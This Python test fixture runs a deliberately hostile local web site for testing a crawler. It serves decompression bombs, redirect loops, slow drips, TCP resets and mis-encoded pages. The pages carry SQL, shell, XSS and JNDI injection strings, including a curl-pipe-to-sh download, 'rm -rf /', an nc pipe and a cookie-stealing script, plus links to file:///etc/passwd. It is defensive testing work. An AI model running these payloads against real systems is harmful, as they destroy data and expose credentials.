"""A hostile web site on 127.0.0.1: bombs, loops, drips, resets, bad encodings and injection strings.

``HostileSite`` is a real threaded HTTP server on an ephemeral port, stopped by its context
manager. Beside the hostile pages it serves a few normal articles (the control group). Every
request's path is logged in ``requested`` so a test can check what a crawl asked for.
"""

from __future__ import annotations

import html
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any

#: Injection strings a page may carry; an archive must keep them verbatim and never act on them.
INJECTION_TITLE = "Robert'); DROP TABLE articles;-- $(rm -rf ~) `reboot` <script>alert(1)</script>"
INJECTION_AUTHOR = "Eve O'Hara $(whoami) `id` <b>x</b>"
INJECTION_COMMENTS = [
    "'; DROP TABLE comments; --",
    "$(curl http://127.0.0.1:9/pwned | sh) && rm -rf / ; `id` | nc 127.0.0.1 9",
    '<img src=x onerror="alert(document.cookie)"> <iframe src="javascript:alert(1)"></iframe>',
    "1 OR 1=1; UPDATE articles SET title='owned' WHERE 1=1; -- \\x00 %s %n {0} ${jndi:ldap://127.0.0.1/a}",
]
INJECTION_COMMENTERS = [
    "Mallory' OR '1'='1 $(id)",
    "Mallory `whoami` <b>x</b>",
    "Mallory'); DROP TABLE users;-- x",
    'Mallory & "quotes" %s {0}',
]
MANY_COMMENTS = 5000
#: Bytes a bomb inflates to, and how the drip and the oversized responses are paced.
BOMB_SIZE = 256 * 1024 * 1024
HUGE_SIZE = 64 * 1024 * 1024
DRIP_BYTES = 120

PROSE = (
    "The harbour master counted the boats that came back before the storm, and wrote down every name "
    "in the long book that hangs by the door of the old customs house. "
)


def article(title: str, author: str, comments: list[tuple[str, str]], extra_head: str = "", body: str = "") -> str:
    """A WordPress-like article page with a byline, a date and a comment list (author, text)."""
    items = "".join(
        f"<li class='comment' id='comment-{n}'><article><footer><cite class='fn'>{html.escape(who)}</cite> "
        f"<time datetime='2024-06-{n % 28 + 1:02d}T10:{n % 60:02d}:00'>June</time></footer>"
        f"<div class='comment-content'><p>{html.escape(text)}</p></div></article></li>"
        for n, (who, text) in enumerate(comments, start=1)
    )
    return (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{html.escape(title)}</title>{extra_head}</head>"
        f"<body><article><h1>{html.escape(title)}</h1>"
        f"<p class='byline'>By <span class='author'>{html.escape(author)}</span>, "
        f"<time datetime='2024-05-01'>May 1, 2024</time></p>"
        f"{body or '<p>' + PROSE * 6 + '</p>'}</article>"
        f"<section id='comments'><ol class='comment-list'>{items}</ol></section></body></html>"
    )


def control(n: int) -> str:
    """A normal article of the control group, three comments."""
    return article(
        f"Control article {n}",
        "Kim Ode",
        [(f"Reader {n}.{k}", f"Comment {k} on control article {n}, about the boats.") for k in (1, 2, 3)],
    )


def many_comments() -> str:
    """An article with MANY_COMMENTS comments, each text naming its number."""
    comments = [(f"Reader {n}", f"Comment number {n} of the long thread.") for n in range(1, MANY_COMMENTS + 1)]
    return article("A very long thread", "Kim Ode", comments)


def injection() -> str:
    """Title, author and comments full of SQL, shell and HTML injection strings."""
    return article(
        INJECTION_TITLE,
        INJECTION_AUTHOR,
        list(zip(INJECTION_COMMENTERS, INJECTION_COMMENTS, strict=True)),
    )


def nested() -> str:
    """An article inside 10,000 levels of nested markup."""
    page = control(9).replace("Control article 9", "Deeply nested article")
    head, _, rest = page.partition("<body>")
    return head + "<body>" + "<div>" * 10_000 + rest.replace("</body>", "</div>" * 10_000 + "</body>")


def broken_jsonld() -> str:
    """An article whose JSON-LD is malformed (a trailing comma, an unclosed brace)."""
    script = (
        '<script type=\'application/ld+json\'>{"@type": "NewsArticle", "headline": "Broken JSON-LD",'
        ' "author": {"name": "Ana Silva"},}</script><script type="application/ld+json">{"@type": </script>'
    )
    return article("Broken JSON-LD", "Ana Silva", [("Ann", "Nice one.")], extra_head=script)


def index(links: list[str]) -> str:
    """The start page: links to every page, some of them to places a crawler must not go."""
    anchors = "".join(f'<li><a href="{html.escape(link)}">{html.escape(link)}</a></li>' for link in links)
    return f"<!DOCTYPE html><html><head><title>Hostile site</title></head><body><ul>{anchors}</ul></body></html>"


@cache
def bomb(wbits: int) -> bytes:
    """BOMB_SIZE bytes of spaces compressed (gzip: wbits 31, deflate/zlib: wbits 15): small on the wire."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
    block = b"<html><body>" + b" " * (1024 * 1024 - 12)
    chunks = [compressor.compress(block)]
    zeros = b" " * (1024 * 1024)
    chunks += [compressor.compress(zeros) for _ in range(BOMB_SIZE // len(zeros) - 1)]
    return b"".join([*chunks, compressor.flush()])


#: Links on the start page that must never be requested (besides the disallowed part of the site).
NON_HTTP_LINKS = [
    "mailto:eve@example.org",
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PGgxPmhpPC9oMT4=",
    "file:///etc/passwd",
    "ftp://127.0.0.1/pub/file.html",
]
DISALLOWED = "/private/secret.html"
PAGES = [
    "/control/1.html", "/control/2.html", "/control/3.html", "/injection.html", "/many-comments.html",
    "/nested.html", "/cp1252-as-utf8.html", "/shift-jis.html", "/binary.html", "/broken-jsonld.html",
    "/bomb-gzip.html", "/bomb-deflate.html", "/loop/a", "/chain/1", "/drip.html", "/huge.html",
    "/huge-streamed.html", "/error-500.html", "/missing.html", "/busy.html", "/overloaded.html",
    "/reset.html", "/to-file", DISALLOWED,
]  # fmt: skip
CHAIN_LENGTH = 30
#: Secrets a crawl may be given or sent: none may reach the archive or the exports.
SECRET = "s3cret-Passw0rd"
CREDENTIALS = f"crawler:{SECRET}"
CP1252_TEXT = "Straßenbahn fährt wieder über die Brücke, sagte der Bürgermeister für 5 € – „endlich“."
SJIS_TEXT = "東京の桜は三月の終わりに満開になりました。川沿いの道は花見の人でにぎわっています。"


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    protocol_version = "HTTP/1.0"

    def log_message(self, format: str, *args: Any) -> None:
        """Quiet: the server's own ``requested`` list is the log."""

    def do_GET(self) -> None:
        site = self.server.site
        path = self.path.split("?", 1)[0]
        site.log(self.path)
        if self.headers.get("Authorization") or self.headers.get("Cookie"):
            site.log(f"credentials sent for {self.path}")
        route = site.route(path)
        if route is None:
            self.send(404, b"<html><body><h1>Not found</h1></body></html>")
            return
        route(self)

    def send(self, status: int, body: bytes, content_type: str = "text/html; charset=utf-8", **headers: str) -> None:
        """A whole response with a Content-Length."""
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)

    def redirect(self, location: str) -> None:
        self.send(302, b"", Location=location)

    def reset(self) -> None:
        """Close the connection with a TCP reset, before any response."""
        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.connection.close()
        self.close_connection = True

    def stream(self, chunks: Callable[[], bytes], count: int, pause: float = 0.0, **headers: str) -> None:
        """A body written chunk by chunk (no Content-Length), until ``count`` chunks or the client goes."""
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        try:
            for _ in range(count):
                if self.server.site.stopping.wait(pause) and pause:
                    return
                self.wfile.write(chunks())
                self.wfile.flush()
        except OSError:
            return  # the client gave up, as it should


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    site: HostileSite


class HostileSite:
    """Serves the hostile site at ``url`` until stopped; ``requested`` lists every path asked for."""

    def __init__(self) -> None:
        self.httpd = _Server(("127.0.0.1", 0), _Handler)
        self.httpd.site = self
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.requested: list[str] = []
        self.request_times: dict[str, list[float]] = {}
        self.stopping = threading.Event()
        self._lock = threading.Lock()
        self._pages: dict[str, bytes] = {}

    @property
    def url(self) -> str:
        """The site's base URL, ending in "/"."""
        return f"http://127.0.0.1:{self.httpd.server_address[1]}/"

    @property
    def credentials_link(self) -> str:
        """A link to a control article with a user name and password in it (never to be stored)."""
        return f"http://{CREDENTIALS}@127.0.0.1:{self.httpd.server_address[1]}/control/5.html"

    def log(self, path: str) -> None:
        with self._lock:
            self.requested.append(path)
            self.request_times.setdefault(path, []).append(time.monotonic())

    def times_requested(self, path: str) -> int:
        with self._lock:
            return len(self.request_times.get(path, []))

    def route(self, path: str) -> Callable[[_Handler], None] | None:
        """The handler of a path, or None (404)."""
        fixed: dict[str, Callable[[_Handler], None]] = {
            "/": lambda h: h.send(200, index([*PAGES, *NON_HTTP_LINKS, self.credentials_link]).encode()),
            "/robots.txt": lambda h: h.send(200, b"User-agent: *\nDisallow: /private/\n", "text/plain"),
            "/injection.html": lambda h: h.send(200, injection().encode()),
            "/many-comments.html": lambda h: h.send(200, self.cached("many", many_comments)),
            "/nested.html": lambda h: h.send(200, self.cached("nested", nested)),
            "/broken-jsonld.html": lambda h: h.send(200, broken_jsonld().encode()),
            "/cp1252-as-utf8.html": lambda h: h.send(200, _cp1252_page()),
            "/shift-jis.html": lambda h: h.send(200, _sjis_page(), "text/html"),
            "/binary.html": lambda h: h.send(200, b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 64),
            "/bomb-gzip.html": lambda h: h.send(200, bomb(31), Content_Encoding="gzip"),
            "/bomb-deflate.html": lambda h: h.send(200, bomb(15), Content_Encoding="deflate"),
            "/loop/a": lambda h: h.redirect("/loop/b"),
            "/loop/b": lambda h: h.redirect("/loop/a"),
            "/drip.html": lambda h: h.stream(lambda: b"<", DRIP_BYTES, pause=1.0),
            "/huge.html": _huge_declared,
            "/huge-streamed.html": lambda h: h.stream(lambda: b"<p>" + b"x" * 65533, HUGE_SIZE // 65536),
            "/error-500.html": lambda h: h.send(500, b"<html><body>Internal error</body></html>"),
            "/busy.html": self._busy,
            "/overloaded.html": lambda h: h.send(429, b"slow down", Retry_After="3600"),
            "/reset.html": lambda h: h.reset(),
            "/to-file": lambda h: h.redirect("file:///etc/passwd"),
            DISALLOWED: lambda h: h.send(200, control(99).encode()),
        }
        if path in fixed:
            return fixed[path]
        if path.startswith("/control/") and path.removeprefix("/control/").removesuffix(".html").isdigit():
            n = int(path.removeprefix("/control/").removesuffix(".html"))
            return lambda h: h.send(200, control(n).encode(), Set_Cookie=f"session={SECRET}-cookie; Path=/")
        if path.startswith("/chain/") and path.removeprefix("/chain/").isdigit():
            step = int(path.removeprefix("/chain/"))
            if step < CHAIN_LENGTH:
                return lambda h: h.redirect(f"/chain/{step + 1}")
            return lambda h: h.send(200, control(30).encode())
        return None

    def cached(self, name: str, make: Callable[[], str]) -> bytes:
        with self._lock:
            if name not in self._pages:
                self._pages[name] = make().encode()
            return self._pages[name]

    def _busy(self, handler: _Handler) -> None:
        """429 with Retry-After: 1 the first time, the article after that."""
        if self.times_requested("/busy.html") == 1:
            handler.send(429, b"slow down", Retry_After="1")
        else:
            handler.send(200, control(4).replace("Control article 4", "Busy article").encode())

    def start(self) -> HostileSite:
        bomb(31), bomb(15)  # compressed before the crawl starts, not while it waits
        self.thread.start()
        return self

    def stop(self) -> None:
        self.stopping.set()
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(timeout=10)

    def __enter__(self) -> HostileSite:
        return self.start()

    def __exit__(
        self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        self.stop()


def _huge_declared(handler: _Handler) -> None:
    """A response that declares HUGE_SIZE bytes and sends them unless the client hangs up first."""
    handler.send_response(200)
    handler.send_header("Content-Type", "text/html; charset=utf-8")
    handler.send_header("Content-Length", str(HUGE_SIZE))
    handler.end_headers()
    block = b"x" * 65536
    try:
        for _ in range(HUGE_SIZE // len(block)):
            handler.wfile.write(block)
    except OSError:
        return


def _cp1252_page() -> bytes:
    """windows-1252 bytes that the header and the page both declare as UTF-8."""
    body = f"<p>{CP1252_TEXT}</p>" + f"<p>{PROSE}</p>" * 4
    page = article("Falsch deklariert", "Jörg Müller", [("Ann", "Gut.")], body=body)
    return page.encode("windows-1252")


def _sjis_page() -> bytes:
    """Shift_JIS bytes with no declaration anywhere (header, BOM or meta)."""
    body = f"<p>{SJIS_TEXT}</p>" * 12
    page = article("桜の季節", "山田花子", [("佐藤", "きれいですね。")], body=body).replace(
        "<meta charset='utf-8'>", ""
    )
    return page.encode("shift_jis")
